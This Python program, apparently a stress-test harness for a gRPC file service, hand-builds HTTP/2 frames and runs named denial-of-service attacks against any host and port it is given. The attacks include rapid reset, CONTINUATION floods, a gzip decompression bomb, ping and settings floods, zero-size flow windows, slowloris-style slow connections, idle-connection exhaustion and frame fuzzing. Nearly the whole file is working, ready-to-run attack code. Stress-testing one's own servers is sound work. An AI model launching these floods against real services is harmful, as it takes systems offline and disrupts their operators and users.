"""Hostile clients, as a program: `python attacks.py ATTACK HOST:PORT SECONDS`. It prints the number of attacks.

Frames are built by hand, because no library sends such frames.
"""

from __future__ import annotations

import asyncio
import functools
import gzip
import random
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1

INITIAL_WINDOW_SIZE = 4

STAT = "/unspool.v1.FileService/StatFile"
READ = "/unspool.v1.FileService/ReadFile"
BATCH = "/unspool.v1.FileService/ReadFiles"
LIST = "/unspool.v1.FileService/ListFiles"
WRITE = "/unspool.v1.FileService/WriteFile"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
DEMO = "/demo.Files/GetFile"
BYTESTREAM = tuple([f"/google.bytestream.ByteStream/{name}" for name in ("Read", "Write", "QueryWriteStatus")])
METHODS = (STAT, READ, BATCH, LIST, CHECK, WATCH, REFLECTION, DEMO, *BYTESTREAM)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Return a field that is not added to the table (RFC 7541, section 6.2.2)."""
    return b"\0" + length(len(name)) + name + length(len(value)) + value


def length(number: int) -> bytes:
    """Return a length with a prefix of 7 bits (RFC 7541, section 5.1)."""
    if number < 127:
        return bytes([number])
    coded, number = bytearray([127]), number - 127
    while number >= 128:
        coded.append(number % 128 + 128)
        number //= 128
    return bytes([*coded, number])


def request_headers(path: str, *more: tuple[bytes, bytes]) -> bytes:
    """Return the header block of a gRPC call."""
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"a")]
    fields += [(b"te", b"trailers"), (b"content-type", b"application/grpc"), *more]
    return b"".join(literal(*field) for field in fields)


def message(body: bytes, *, compressed: bool = False) -> bytes:
    """Return a gRPC message."""
    return struct.pack(">BI", compressed, len(body)) + body


class Connection:
    """One connection that may send any HTTP/2 frames."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.streams = iter(range(1, 1 << 31, 2))
        self._sink = asyncio.create_task(self._swallow())

    @classmethod
    async def open(cls, address: str, settings: bytes = b"") -> Connection:
        """Connect, and begin HTTP/2."""
        host, _, port = address.rpartition(":")
        self = cls(*await asyncio.open_connection(host, int(port)))
        self.writer.write(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0))
        return self

    async def _swallow(self) -> None:
        with suppress(OSError):
            while await self.reader.read(1 << 16):
                pass

    @property
    def dead(self) -> bool:
        """Return whether the server has closed it."""
        return self._sink.done() or self.writer.is_closing()

    async def send(self, data: bytes) -> None:
        """Send bytes, and wait while many are in flight."""
        self.writer.write(data)
        await self.writer.drain()

    def close(self) -> None:
        """Cut it."""
        self._sink.cancel()
        self.writer.transport.abort()


Attack = Callable[[str, float], Awaitable[int]]
"""Attacks an address for a number of seconds; returns the number of attacks."""


def pressing(unit: Callable[[Connection], bytes], settings: bytes = b"", connections: int = 4, pause: float = 0.0) -> Attack:
    """Return an attack that sends a unit repeatedly, over connections that are renewed when the server closes them."""

    async def press(address: str, until: float) -> int:
        count = 0
        while time.monotonic() < until:
            try:
                connection = await Connection.open(address, settings)
            except OSError:
                await asyncio.sleep(0.01)
                continue
            with suppress(OSError, StopIteration):
                while time.monotonic() < until and not connection.dead:
                    await connection.send(unit(connection))
                    count += 1
                    await asyncio.sleep(pause)
            connection.close()
        return count

    async def attack(address: str, until: float) -> int:
        return sum(await asyncio.gather(*[press(address, until) for _ in range(connections)]))

    return attack


def opening(path: str, body: bytes = b"", flags: int = 0, each: int = 50) -> Callable[[Connection], bytes]:
    """Return bytes that open calls: with headers only, or with a body that does not end them."""
    block = request_headers(path)

    def unit(connection: Connection) -> bytes:
        opened = bytearray()
        for _ in range(each):
            stream = next(connection.streams)
            opened += frame(HEADERS, END_HEADERS, stream, block)
            if body:
                opened += frame(DATA, flags, stream, body)
        return bytes(opened)

    return unit


def resets(path: str, body: bytes) -> Callable[[Connection], bytes]:
    """Return bytes that open calls and cancel them at once."""
    block = request_headers(path)

    def unit(connection: Connection) -> bytes:
        both = bytearray()
        for _ in range(100):
            stream = next(connection.streams)
            both += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)
            both += frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
        return bytes(both)

    return unit


def continuations(connection: Connection) -> bytes:
    """Headers without an end (RFC 9113, section 6.10)."""
    stream = next(connection.streams)
    more = frame(CONTINUATION, 0, stream, literal(b"x-more", b"y" * 8000))
    return frame(HEADERS, 0, stream, request_headers(STAT)) + more * 100


def large_metadata(connection: Connection) -> bytes:
    """A call with 64 KiB of metadata."""
    block = request_headers(STAT, *[(b"x-%d" % number, b"m" * 8000) for number in range(8)])
    stream = next(connection.streams)
    parts = [block[at : at + 16000] for at in range(0, len(block), 16000)]
    return frame(HEADERS, 0, stream, parts[0]) + b"".join(
        frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, stream, part) for part in parts[1:]
    )


@functools.cache
def _bomb() -> bytes:
    return message(gzip.compress(bytes(16 << 20)), compressed=True)


def bomb(connection: Connection) -> bytes:
    """A request that is 16 KiB of gzip and 16 MiB of zeros."""
    block = request_headers(STAT, (b"grpc-encoding", b"gzip"))
    body = _bomb()
    stream = next(connection.streams)
    parts = [body[at : at + 16000] for at in range(0, len(body), 16000)]
    return frame(HEADERS, END_HEADERS, stream, block) + b"".join(
        frame(DATA, END_STREAM if part is parts[-1] else 0, stream, part) for part in parts
    )


def garbage(connection: Connection) -> bytes:
    """Random bytes, or frames of any kind with any contents."""
    dice = random.Random(next(connection.streams))
    if dice.random() < 0.2:
        return dice.randbytes(dice.randrange(1, 2000))
    kind, flags, stream = dice.randrange(12), dice.randrange(256), dice.choice((0, 1, 2, 3, 1 << 30))
    return frame(kind, flags, stream, dice.randbytes(dice.randrange(100)))


def mutated(connection: Connection) -> bytes:
    """Twenty calls of any method with requests that are nearly valid, or invalid."""
    dice = random.Random(next(connection.streams))
    calls = bytearray()
    for _ in range(20):
        body = bytearray(b"\x0a\x05a.bin\x10\x00\x18\x01" if dice.random() < 0.7 else dice.randbytes(dice.randrange(60)))
        for _ in range(dice.randrange(4)):
            if body:
                body[dice.randrange(len(body))] = dice.randrange(256)
        stream = next(connection.streams)
        calls += frame(HEADERS, END_HEADERS, stream, request_headers(dice.choice(METHODS)))
        calls += frame(DATA, END_STREAM, stream, message(bytes(body)))
    return bytes(calls)


def endless_uploads(connection: Connection) -> bytes:
    """One upload that is committed with 2^63 - 1 bytes, and one of which as many are to be discarded."""
    most = b"\xff\xff\xff\xff\xff\xff\xff\xff\x7f"
    opened = b"\x0a\x10" + bytes(15) + b"%c" + b"\x12\x02up"  # upload_id, name
    committed = field(1, opened % 1) + field(3, b"\x08" + most)
    discarding = field(1, opened % 2 + field(11, b"\x10" + most))
    calls = bytearray()
    for body in (committed, discarding):
        stream = next(connection.streams)
        calls += frame(HEADERS, END_HEADERS, stream, request_headers(WRITE))
        calls += frame(DATA, END_STREAM, stream, message(body))
    return bytes(calls)


def field(number: int, value: bytes) -> bytes:
    """Return a short field of bytes, as protobuf encodes it."""
    return bytes([number << 3 | 2, len(value)]) + value


def window(size: int) -> bytes:
    """Return the setting of a window of this many bytes for each stream."""
    return struct.pack(">HI", INITIAL_WINDOW_SIZE, size)


async def idle(address: str, until: float, count: int = 1100, preface: bytes = PREFACE + frame(SETTINGS, 0, 0)) -> int:
    """Open connections that never make a call, and keep them; open closed ones again."""
    host, _, port = address.rpartition(":")
    held: list[asyncio.StreamWriter] = []
    opened = 0
    while time.monotonic() < until:
        held = [writer for writer in held if not writer.is_closing()]
        while len(held) < count and opened < 2 * count and time.monotonic() < until:
            with suppress(OSError):
                _, writer = await asyncio.open_connection(host, int(port))
                writer.write(preface)
                held.append(writer)
                opened += 1
        await asyncio.sleep(0.05)
    for writer in held:
        writer.transport.abort()
    return opened


async def silent(address: str, until: float) -> int:
    """Open TCP connections that never send a byte."""
    return await idle(address, until, preface=b"")


async def slowly(address: str, until: float) -> int:
    """Open connections that send one byte of their preface twice a second."""
    host, _, port = address.rpartition(":")
    said = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, request_headers(STAT))

    async def one() -> None:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(host, int(port))
            for byte in said:
                if time.monotonic() > until:
                    break
                writer.write(bytes([byte]))
                await asyncio.sleep(0.5)
            writer.transport.abort()

    await asyncio.gather(*[one() for _ in range(300)])
    return 300


async def dropping(address: str, until: float) -> int:
    """Open connections and close them at once, some after their preface."""
    host, _, port = address.rpartition(":")
    count = 0
    while time.monotonic() < until:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(host, int(port))
            if count % 2:
                writer.write(PREFACE)
            writer.transport.abort()
            count += 1
    return count


NAME = message(b"\x0a\x05a.bin")

ATTACKS: dict[str, Attack] = {
    "half-open": pressing(opening(READ), pause=0.005),
    "half-open-stats": pressing(opening(STAT), pause=0.005),
    "half-a-message": pressing(opening(STAT, body=NAME[:4]), pause=0.005),
    "watches": pressing(opening(WATCH, body=message(b""), flags=END_STREAM), pause=0.005),
    "reflections": pressing(opening(REFLECTION, body=message(b"\x3a\x00")), pause=0.005),
    "unknown-methods": pressing(opening("/no.Such/Method"), pause=0.005),
    "rapid-reset": pressing(resets(READ, NAME), connections=2, pause=0.005),
    "rapid-reset-stats": pressing(resets(STAT, NAME), connections=2, pause=0.005),
    # 80,000 a second, twice what a server answers. Without a pause, a second's worth in the sockets' buffers takes it 24 s.
    "pings": pressing(lambda _: frame(PING, 0, 0, b"12345678") * 100, pause=0.005),
    "settings": pressing(lambda _: frame(SETTINGS, 0, 0, window(1 << 16)) * 100),
    "continuations": pressing(continuations),
    "large-metadata": pressing(large_metadata),
    "gzip-bombs": pressing(bomb, pause=0.01),
    "garbage": pressing(garbage),
    "mutated": pressing(mutated, pause=0.002),
    "endless-uploads": pressing(endless_uploads, pause=0.01),
    "window-of-0": pressing(opening(READ, body=NAME, flags=END_STREAM), settings=window(0), pause=0.005),
    "window-of-1": pressing(opening(READ, body=NAME, flags=END_STREAM), settings=window(1), pause=0.005),
    "idle": idle,
    "silent": silent,
    "slowly": slowly,
    "dropping": dropping,
}


def main() -> None:
    """Run the attack that the arguments name."""
    name, address, seconds = sys.argv[1:]
    sys.stdout.write(str(asyncio.run(_run(ATTACKS[name], address, float(seconds)))))


async def _run(attack: Attack, address: str, seconds: float) -> int:
    return await attack(address, time.monotonic() + seconds)


if __name__ == "__main__":
    main()
